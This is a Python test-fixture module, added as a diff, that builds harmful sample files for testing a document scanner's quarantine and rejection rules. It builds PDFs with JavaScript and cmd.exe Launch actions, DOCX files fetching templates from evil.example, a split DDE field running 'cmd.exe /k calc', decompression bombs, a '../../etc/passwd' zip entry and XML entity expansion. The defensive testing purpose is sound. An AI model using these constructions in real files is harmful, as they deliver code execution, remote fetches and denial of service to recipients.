@@ -1,0 +1,191 @@
+"""Files made to harm, small and real: PDFs with scripts, bombs and locks, office files with macros and outside links."""
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+
+import pikepdf
+from pikepdf import Dictionary, Name, String
+
+from tests.papers import draft_pdf
+
+WORD_TYPES = (
+    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
+)
+WORD = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
+RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **how: object) -> bytes:
+    """A PDF of one empty page, changed."""
+    with pikepdf.new() as made:
+        made.add_blank_page()
+        change(made)
+        out = io.BytesIO()
+        made.save(out, **how)  # type: ignore[arg-type]
+    return out.getvalue()
+
+
+def _opens_with(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        made.Root.OpenAction = made.make_indirect(action)
+
+    return change
+
+
+def _annotated(note: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        made.pages[0].obj["/Annots"] = pikepdf.Array([made.make_indirect(note)])
+
+    return change
+
+
+def _content(data: bytes, filters: int) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        stream = pikepdf.Stream(made, data)
+        stream["/Filter"] = pikepdf.Array([Name.FlateDecode] * filters)
+        made.pages[0].obj["/Contents"] = stream
+
+    return change
+
+
+def deflated(size: int, times: int = 1) -> bytes:
+    """Noughts, compressed again and again."""
+    packer = zlib.compressobj(9)
+    data = b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])
+    return data if times == 1 else zlib.compress(data, 9)
+
+
+def object_stream_bomb(size: int = 70 << 20) -> bytes:
+    """A PDF whose object stream makes 70 MB when a reader opens it."""
+    packer = zlib.compressobj(9)
+    raw = packer.compress(b"1 0 2 20 <<>> ") + b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
+    body = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length " + str(len(raw)).encode() + b">>stream\n" + raw + b"\nendstream endobj\n"
+    places = []
+    for number, content in ((2, b"<</Type/Catalog/Pages 3 0 R>>"), (3, b"<</Type/Pages/Count 1/Kids[4 0 R]>>"), (4, b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/X 9 0 R>>")):
+        places.append(len(body))
+        body += str(number).encode() + b" 0 obj" + content + b"endobj\n"
+
+    def entry(kind: int, where: int) -> bytes:
+        return struct.pack(">BIH", kind, where, 0)
+
+    table = entry(0, 0) + entry(1, 9) + b"".join(entry(1, at) for at in places) + entry(1, len(body)) + entry(0, 0) * 3 + entry(2, 1)
+    end = len(body)
+    body += b"5 0 obj<</Type/XRef/Size 10/W[1 4 2]/Root 2 0 R/Length " + str(len(table)).encode() + b">>stream\n" + table + b"\nendstream endobj\n"
+    return body + b"startxref\n" + str(end).encode() + b"\n%%EOF"
+
+
+def zipped(members: dict[str, bytes | str]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def word(body: str = "<w:p/>", types: str = "", relations: str = "", **parts: bytes | str) -> bytes:
+    """A DOCX; `parts` by name with __ for /."""
+    more = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
+    return zipped({
+        "[Content_Types].xml": WORD_TYPES.format(types), "word/document.xml": WORD.format(body),
+        "word/_rels/document.xml.rels": RELATIONS.format(relations), **more,
+    })  # fmt: skip
+
+
+def relation(kind: str, target: str) -> str:
+    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
+
+
+def field(*runs: str) -> str:
+    return "<w:p>" + "".join(f"<w:r><w:instrText>{r}</w:instrText></w:r>" for r in runs) + "</w:p>"
+
+
+def open_document(content: str, **parts: bytes | str) -> bytes:
+    more = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
+        archive.writestr("content.xml", f'<?xml version="1.0"?><office:document-content>{content}</office:document-content>')
+        archive.writestr("META-INF/manifest.xml", "<manifest/>")
+        for name, data in more.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def javascript() -> Dictionary:
+    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+
+
+
+SCRIPT = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"
+
+
+def quarantined() -> dict[str, tuple[str, Callable[[], bytes], str]]:
+    """What may harm and is kept apart: case → (name, bytes, finding)."""
+    objects = pikepdf.ObjectStreamMode.generate
+    paper = draft_pdf("A")
+    return {
+        "script at opening": ("a.pdf", lambda: pdf(_opens_with(javascript())), "javascript"),
+        "script in an object stream": ("a.pdf", lambda: pdf(_opens_with(javascript()), object_stream_mode=objects), "javascript"),
+        "script of a note": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, AA=Dictionary(K=javascript())))), "javascript"),
+        "script under a disguised name": ("a.pdf", lambda: pdf(_opens_with(javascript())).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"), "javascript"),
+        "launch": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.Launch, F=String("cmd.exe")))), "launch"),
+        "launch of a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))), "launch"),
+        "address at opening": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.URI, URI=String("http://evil.example")))), "open_action"),
+        "file inside": ("a.pdf", lambda: pdf(lambda p: p.attachments.__setitem__("x.exe", b"MZ")), "embedded_file"),
+        "film inside": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.RichMedia))), "rich_media"),
+        "form that changes": ("a.pdf", lambda: pdf(lambda p: p.Root.__setitem__("/AcroForm", Dictionary(XFA=pikepdf.Array([])))), "xfa"),
+        "restricted": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "restricted"),
+        "mended table": ("a.pdf", lambda: paper.replace(b"startxref", b"startxreg"), "repaired"),
+        "macro": ("a.docx", lambda: word(word__vbaProject_DOT_bin=b"VBA"), "macro"),
+        "macro by its type": ("a.docx", lambda: word(types='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macro"),
+        "outside template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "http://evil.example/t.dotm")), "external_link"),
+        "outside picture": ("a.docx", lambda: word(relations=relation("image", "http://evil.example/pixel.png")), "external_link"),
+        "included text": ("a.docx", lambda: word(field("INCLUDETEXT ", '"http://evil.example/x"')), "external_link"),
+        "packaged program": ("a.docx", lambda: word(word__embeddings__oleObject1_DOT_bin=b"x"), "ole_object"),
+        "DDE in pieces": ("a.docx", lambda: word(field("DD", "EAU", 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
+        "macro of ODT": ("a.odt", lambda: open_document("", Basic__Standard__Module1_DOT_xml="<script/>"), "macro"),
+        "outside section of ODT": ("a.odt", lambda: open_document('<text:section-source xlink:href="http://evil.example/x"/>'), "external_link"),
+        "program in an archive": ("a.zip", lambda: zipped({"congvan.pdf.exe": b"MZ"}), "program_inside"),
+        "macro in an archive": ("a.zip", lambda: zipped({"a.docx": word(word__vbaProject_DOT_bin=b"VBA")}), "macro"),
+        "object of RTF": ("a.rtf", lambda: rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", "ole_object"),
+        "macro of an old file": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"), "macro"),
+    }  # fmt: skip
+
+
+def refused() -> dict[str, tuple[str, Callable[[], bytes], str]]:
+    """What cannot be kept as a document: case → (name, bytes, finding)."""
+    paper = draft_pdf("A")
+    raw: dict[str, object] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
+    huge = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60000, 60000, 8, 2, 0, 0, 0)
+    huge += struct.pack(">I", zlib.crc32(huge[12:29])) + struct.pack(">I4s", 0, b"IDAT") + struct.pack(">I", zlib.crc32(b"IDAT"))
+    return {
+        "not a PDF at all": ("a.pdf", lambda: b"%PDF-1.4 junk", "broken"), "cut off": ("a.pdf", lambda: paper[: len(paper) // 2], "broken"),
+        "locked": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
+        "2,000 pages": ("a.pdf", lambda: pdf(lambda p: [p.add_blank_page() for _ in range(1999)] and None), "too_many_pages"),
+        "bomb": ("a.pdf", lambda: pdf(_content(deflated(66 << 20), 1), **raw), "bomb"),
+        "bomb in a bomb": ("a.pdf", lambda: pdf(_content(deflated(66 << 20, 2), 2), **raw), "bomb"),
+        "object stream bomb": ("a.pdf", lambda: object_stream_bomb(), "bomb"),
+        "archive bomb": ("a.zip", lambda: zipped({f"{n}.txt": bytes(24 << 20) for n in range(3)}), "bomb"),
+        "bomb of a DOCX": ("a.docx", lambda: word(word__media__a_DOT_xml=bytes(70 << 20)), "bomb"),
+        "many members": ("a.zip", lambda: zipped({f"{n}": b"" for n in range(10_001)}), "archive_members"),
+        "path out": ("a.zip", lambda: zipped({"../../etc/passwd": b"x"}), "archive_path"),
+        "archives in archives": ("a.zip", lambda: zipped({"b.zip": zipped({"c.zip": zipped({"d.txt": b"x"})})}), "archive_nested"),
+        "entities": ("a.xml", lambda: SCRIPT.encode(), "xml_entities"), "entities in UTF-16": ("a.docx", lambda: word(word__a_DOT_xml=SCRIPT.encode("utf-16")), "xml_entities"),
+        "damaged archive": ("a.docx", lambda: word()[:-40], "broken"), "huge picture": ("a.png", lambda: huge, "image_too_large"),
+    }  # fmt: skip
+
+
+def ordinary() -> dict[str, tuple[str, Callable[[], bytes]]]:
+    """What offices send every day and what must never be stopped."""
+    return {
+        "a paper": ("a.pdf", lambda: draft_pdf("A")), "a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://vanban.example")))))),
+        "opened at a page": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.GoTo, D=pikepdf.Array([0, Name.Fit]))))),
+        "a link in a DOCX": ("a.docx", lambda: word(relations=relation("hyperlink", "https://vanban.example"))),
+        "a page number in a DOCX": ("a.docx", lambda: word(field("PAGE \\* MERGEFORMAT"))), "an ODT": ("a.odt", lambda: open_document("<text:p>x</text:p>")),
+        "an archive": ("a.zip", lambda: zipped({"a.txt": b"x", "thu muc/b.txt": b"y"})), "XML": ("a.xml", lambda: b"<?xml version='1.0'?><a/>"),
+    }  # fmt: skip
